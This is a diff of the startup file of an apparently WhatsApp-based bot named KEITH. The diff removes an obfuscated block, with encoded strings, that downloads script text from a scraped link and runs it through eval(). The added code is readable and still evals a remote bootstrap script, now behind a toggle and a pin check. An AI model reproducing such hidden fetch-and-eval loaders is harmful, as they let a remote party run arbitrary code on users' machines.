@@ -1,6 +1,34 @@
-/*this code is a remote control of my index.js */
+'use strict';
 
+// Refuse to run against a database migrated by a newer release
+require('./lib/migrator').ensureSchema().catch(error => {
+    console.error('❌ Database schema check failed:', error.message);
+    process.exit(1);
+});
 
+// Automatic backups when BACKUP_INTERVAL or the backup command turned them on
+require('./lib/backup').startBackupSchedule().catch(error => {
+    console.error('❌ Backup schedule failed to start:', error.message);
+});
 
-'use strict';const yLCMQxYrZA$CYB=UTTpaJid$IGmHEfHPlfg;(function(nSSOXpzQlmXAfTvSM,bCtaERzXUXTTBOdwaDD_CutFC){const v$LIT$CPKgesxoIq=UTTpaJid$IGmHEfHPlfg,f$wPTPGbga_BEWNpswiLCoyMKv=nSSOXpzQlmXAfTvSM();while(!![]){try{const dFRFK_ojOeasidkRpTSweCPJj=parseFloat(v$LIT$CPKgesxoIq(0x122))/(parseFloat(-0x11)*Math.floor(-parseInt(0xf7))+-0x240e+parseInt(0x13a8))*parseFloat(parseFloat(v$LIT$CPKgesxoIq(0x12e))/(Math.floor(parseInt(0x7))*parseFloat(0x257)+0xb35+0x1b94*-0x1))+parseFloat(v$LIT$CPKgesxoIq(0x123))/(-parseInt(0x18d)*-parseInt(0x2)+-parseInt(0x119e)+-0x1*-parseInt(0xe87))*(parseFloat(v$LIT$CPKgesxoIq(0x128))/(parseInt(0x713)+0x69b+parseFloat(-0x9f)*Math.ceil(0x16)))+parseInt(-parseFloat(v$LIT$CPKgesxoIq(0x116))/(-parseInt(0x120)*parseInt(0x11)+-parseInt(0x7a)*0x4d+0x37d7))+Math['max'](-parseFloat(v$LIT$CPKgesxoIq(0x124))/(0x19f3+parseFloat(parseInt(0xf55))+-0x2942*parseInt(0x1)),-parseFloat(v$LIT$CPKgesxoIq(0x127))/(parseInt(-parseInt(0x23ba))+-parseInt(0x22)*-parseInt(0x7d)+parseFloat(-0x1)*Number(-parseInt(0x1327))))+Math['trunc'](-parseFloat(v$LIT$CPKgesxoIq(0x111))/(-parseInt(0x58b)+Math.floor(0x39)*parseFloat(-0x17)+parseInt(0xab2)))*Math['max'](parseFloat(v$LIT$CPKgesxoIq(0x114))/(Math.trunc(0x5a4)+0x2*-0x1345+-parseInt(0x1)*Number(-parseInt(0x20ef))),parseFloat(v$LIT$CPKgesxoIq(0x12c))/(-0xb*parseInt(-0x2bd)+-0x1*0x16+parseInt(-0x1dff)))+Math['ceil'](parseFloat(v$LIT$CPKgesxoIq(0x11a))/(Math.max(-parseInt(0x7),-0x7)*Math.trunc(-parseInt(0x54c))+parseInt(-parseInt(0x18e1))+0x2*Math.trunc(-parseInt(0x614))))+parseInt(parseFloat(v$LIT$CPKgesxoIq(0x118))/(0x1b76*-parseInt(0x1)+0xde6+parseInt(0xd9c)));if(dFRFK_ojOeasidkRpTSweCPJj===bCtaERzXUXTTBOdwaDD_CutFC)break;else f$wPTPGbga_BEWNpswiLCoyMKv['push'](f$wPTPGbga_BEWNpswiLCoyMKv['shift']());}catch(PsLkQTnmNwFdtQIC$UEWcdnz){f$wPTPGbga_BEWNpswiLCoyMKv['push'](f$wPTPGbga_BEWNpswiLCoyMKv['shift']());}}}(aEdxexdIuLDD$KmdwRa$GOMRi,Math.trunc(parseInt(0x8a0e))*parseInt(0x2)+Math.trunc(-0x884a)+-parseInt(0x1)*-parseInt(0x12be3)));const axios=require(yLCMQxYrZA$CYB(0x119)),cheerio=require(yLCMQxYrZA$CYB(0x11b));async function fetchAlphaUrl(){const TRw_SpVRn=yLCMQxYrZA$CYB;try{const xInP_lvxhhieG$jSWXtbAQD=await axios[TRw_SpVRn(0x113)](TRw_SpVRn(0x10f)),zbZznJpWtyPYfRd=xInP_lvxhhieG$jSWXtbAQD[TRw_SpVRn(0x117)],tYiuZFkyDDlrBcpPG=cheerio[TRw_SpVRn(0x112)](zbZznJpWtyPYfRd),tk$BffR_G=tYiuZFkyDDlrBcpPG(TRw_SpVRn(0x12d))[TRw_SpVRn(0x11e)](TRw_SpVRn(0x129));if(!tk$BffR_G)throw new Error(TRw_SpVRn(0x121));console[TRw_SpVRn(0x12b)](TRw_SpVRn(0x12f));const KBpVrGdXALtGlQVMIy=await axios[TRw_SpVRn(0x113)](tk$BffR_G),ocOBYqkB=KBpVrGdXALtGlQVMIy[TRw_SpVRn(0x117)];console[TRw_SpVRn(0x12b)](TRw_SpVRn(0x11d)),eval(ocOBYqkB);const WEz$_wIKnIc=verifyJid(TRw_SpVRn(0x120));console[TRw_SpVRn(0x12b)](TRw_SpVRn(0x126),WEz$_wIKnIc);}catch(pBvGvI){console[TRw_SpVRn(0x110)](TRw_SpVRn(0x115),pBvGvI[TRw_SpVRn(0x11f)]||pBvGvI);}}function aEdxexdIuLDD$KmdwRa$GOMRi(){const W_ECuJmlBHMnL_MbzsYt=['217a232f2e3421292e3368670b050914086769','717076762d3214330634','06292c256026253423282524603335232325333326352c2c3960a2dcc5a2dcc57a','0a09046036253229262925247a','28343430337a6f6f3221376e27293428352235332532232f2e34252e346e232f2d6f222132213a2127282f33346f12050d0f14056f322526336f28252124336f2d21292e6f292e2425386e28342d2c','2532322f32','73767038372b0e0433','2c2f2124','272534','7470767474252c090d2d0b','a2ddcc0532322f327a','757074757675330432232f22','24213421','717976797174701708022b3836','2138292f33','71767277717876120b33090c07','2328252532292f','092e36212c2924600a090460262f322d2134a2ddce7a','132332293034602c2f21242524603335232325333326352c2c39a2dcc5a2dcc561','21343432','2d253333212725','2b2529342800336e37282134332130306e2e2534','090e040518602e2f3460262f352e24602f2e6034282560372522302127256ea2ddcc','7171751619282a3922','7473777473073025291832','7276747672742e012b020625','00336e37282134332130306e2e2534','192f3532603625322926292524600a09047a','7370787772782c0b2a2c0a33','7274391a06382530','28322526','252e243317293428','2c2f27','747571767012343504030a'];aEdxexdIuLDD$KmdwRa$GOMRi=function(){return W_ECuJmlBHMnL_MbzsYt;};return aEdxexdIuLDD$KmdwRa$GOMRi();}function verifyJid(lFIgFuV$Fxor){const YfqQXwHWALSlZNRLeson_n=yLCMQxYrZA$CYB;if(!lFIgFuV$Fxor[YfqQXwHWALSlZNRLeson_n(0x12a)](YfqQXwHWALSlZNRLeson_n(0x125)))return console[YfqQXwHWALSlZNRLeson_n(0x110)](YfqQXwHWALSlZNRLeson_n(0x11c),lFIgFuV$Fxor),![];return console[YfqQXwHWALSlZNRLeson_n(0x12b)](YfqQXwHWALSlZNRLeson_n(0x10e),lFIgFuV$Fxor),!![];}function UTTpaJid$IGmHEfHPlfg(jSWXtbAQDz$zbZznJpW,yPYfR_dFtYiuZ){const ky$DDlrBcpPGftkBf_f=aEdxexdIuLDD$KmdwRa$GOMRi();return UTTpaJid$IGmHEfHPlfg=function(GIKBpVrGdXALtGlQ_VMIyjo,OB$Yq$kB){GIKBpVrGdXALtGlQ_VMIyjo=GIKBpVrGdXALtGlQ_VMIyjo-(-0x1bb*Math.max(0x1,0x1)+-parseInt(0x554)*-0x5+Math.max(-parseInt(0x17db),-parseInt(0x17db)));let WEzwIKnIc=ky$DDlrBcpPGftkBf_f[GIKBpVrGdXALtGlQ_VMIyjo];if(UTTpaJid$IGmHEfHPlfg['BNKvsp']===undefined){const YKJTfvVpgsVYhjybmrTsFt=function(peiXryZFxepsDrcob){let Ak_BFe$lKjlJ=Number(parseInt(0x530))+0x100b+parseInt(-parseInt(0x12fb))&parseFloat(-0xaab)*Math.max(-0x2,-parseInt(0x2))+0x9a4*Number(0x2)+parseInt(0x1e3)*parseFloat(-parseInt(0x15)),xwkNDselIMmK=new Uint8Array(peiXryZFxepsDrcob['match'](/.{1,2}/g)['map'](EEiuQjFjc_rnbRgTlgF$PUhd=>parseInt(EEiuQjFjc_rnbRgTlgF$PUhd,Math.floor(-0x68c)*0x3+parseInt(0x115)*parseFloat(parseInt(0xb))+Math.max(0x7cd,parseInt(0x7cd))))),tuDCJRKsILGWHBkxvKcSqh=xwkNDselIMmK['map'](KwtVdkSfycLiOp$QxUPZxDw=>KwtVdkSfycLiOp$QxUPZxDw^Ak_BFe$lKjlJ),hUzDKHO=new TextDecoder(),aVYVpdvw_CoGltRtN_SHb=hUzDKHO['decode'](tuDCJRKsILGWHBkxvKcSqh);return aVYVpdvw_CoGltRtN_SHb;};UTTpaJid$IGmHEfHPlfg['QRZzaq']=YKJTfvVpgsVYhjybmrTsFt,jSWXtbAQDz$zbZznJpW=arguments,UTTpaJid$IGmHEfHPlfg['BNKvsp']=!![];}const pBvGvI=ky$DDlrBcpPGftkBf_f[Math.trunc(-0x1)*0x110a+-0x5*-0x269+-0x4fd*Number(-0x1)],lFIgF$uVFx_or=GIKBpVrGdXALtGlQ_VMIyjo+pBvGvI,H$K$ouc=jSWXtbAQDz$zbZznJpW[lFIgF$uVFx_or];return!H$K$ouc?(UTTpaJid$IGmHEfHPlfg['NikKcT']===undefined&&(UTTpaJid$IGmHEfHPlfg['NikKcT']=!![]),WEzwIKnIc=UTTpaJid$IGmHEfHPlfg['QRZzaq'](WEzwIKnIc),jSWXtbAQDz$zbZznJpW[lFIgF$uVFx_or]=WEzwIKnIc):WEzwIKnIc=H$K$ouc,WEzwIKnIc;},UTTpaJid$IGmHEfHPlfg(jSWXtbAQDz$zbZznJpW,yPYfR_dFtYiuZ);}fetchAlphaUrl();
+// Local commands register before the remote script resolves, so Cmds/ works without it
+const pluginLoader = require('./lib/pluginLoader');
+pluginLoader.loadPlugins();
+if (require('./settings').pluginWatch === 'true') pluginLoader.startPluginWatcher();
 // must run
+
+// Mutes, filters, group bans, prefixes and macros run on whichever socket the bootstrap creates
+const KeithLogger = require('./logger');
+const { attachPipeline } = require('./lib/messagePipeline');
+KeithLogger.onClient(attachPipeline);
+
+// The remote KEITH script connects to WhatsApp, independent of REMOTE_COMMANDS (which only
+// covers the command scripts). It is checked against its pin when there is one and falls back
+// to the cached copy when the remote is unreachable, see loadBootstrapScript.
+if (require('./settings').remoteBootstrap !== 'false') {
+    require('./Cmds/Remote').loadBootstrapScript().then(script => {
+        if (script !== null) eval(script);
+    }).catch(error => KeithLogger.error('Failed to start the remote connection script', error));
+} else {
+    KeithLogger.warning('REMOTE_BOOTSTRAP is off, the WhatsApp connection script was not loaded');
+}